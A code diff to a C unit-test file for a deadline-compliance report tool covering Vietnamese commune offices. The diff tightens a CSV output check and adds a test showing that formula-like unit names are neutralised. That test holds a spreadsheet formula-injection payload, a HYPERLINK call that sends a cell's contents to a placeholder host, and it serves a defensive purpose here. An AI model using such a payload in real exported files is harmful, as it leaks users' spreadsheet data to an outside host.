@@ -282,12 +282,12 @@ test_render(void **state)
 
 	build_may(fx, &r, "kh2024");
 	csv = report_render_csv(&r);
-	assert_non_null(strstr(csv, "phuocan,UBND xã Phước An,2,1,0,0,,0,0,0,1,"
-	    "100.0,2\r\n"));
-	assert_non_null(strstr(csv, "phuochoa,UBND xã Phước Hòa,2,0,1,3,3.0,1,"
-	    "2,0,0,0.0,1\r\n"));
-	assert_non_null(strstr(csv, "TOTAL,Tổng cộng,4,1,1,3,3.0,1,2,0,1,33.3,"
-	    "3\r\n"));
+	assert_string_equal(csv, "unit,name,due,on_time,late,late_days,"
+	    "late_avg,overdue,overdue_days,not_yet_due,waived,"
+	    "rate=100*on_time/(due-waived-not_yet_due),undated\r\n"
+	    "phuocan,UBND xã Phước An,2,1,0,0,,0,0,0,1,100.0,2\r\n"
+	    "phuochoa,UBND xã Phước Hòa,2,0,1,3,3.0,1,2,0,0,0.0,1\r\n"
+	    "TOTAL,Tổng cộng,4,1,1,3,3.0,1,2,0,1,33.3,3\r\n");
 	json = report_render_json(&r);
 	assert_non_null(doc = json_loads(json, 0, NULL));
 	u = json_array_get(json_object_get(doc, "units"), 0);
@@ -314,6 +314,39 @@ test_render(void **state)
 	free(json);
 	free(csv);
 	report_clear(&r);
+}
+
+/*
+ * The report's CSV (deadlinectl and the mailed attachment) neutralises a
+ * unit name a spreadsheet would run as a formula.
+ */
+static void
+test_render_csv_formula(void **state)
+{
+	struct report		r;
+	struct report_row	rows[1];
+	char			*csv;
+
+	memset(&r, 0, sizeof r);
+	memset(rows, 0, sizeof rows);
+	rows[0].unit = xstrdup("evil");
+	rows[0].name = xstrdup("=HYPERLINK(\"http://x.invalid/?\"&A1,"
+	    "\"Phòng\")");
+	rows[0].late_avg10 = rows[0].rate10 = -1;
+	r.rows = rows;
+	r.n = 1;
+	r.total.unit = xstrdup("TOTAL");
+	r.total.name = xstrdup("-");
+	r.total.late_avg10 = r.total.rate10 = -1;
+	csv = report_render_csv(&r);
+	assert_non_null(strstr(csv, "\r\nevil,\"'=HYPERLINK(\"\"http://"
+	    "x.invalid/?\"\"&A1,\"\"Phòng\"\")\",0,0,0,0,,0,0,0,0,,0\r\n"
+	    "TOTAL,'-,0,"));
+	free(csv);
+	free(rows[0].unit);
+	free(rows[0].name);
+	free(r.total.unit);
+	free(r.total.name);
 }
 
 /* Counts outbox rows with a given key. */
@@ -382,6 +415,7 @@ main(void)
 		cmocka_unit_test(test_periods),
 		cmocka_unit_test_setup_teardown(test_figures, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_render, setup, teardown),
+		cmocka_unit_test(test_render_csv_formula),
 		cmocka_unit_test_setup_teardown(test_queue, setup, teardown),
 	};
 
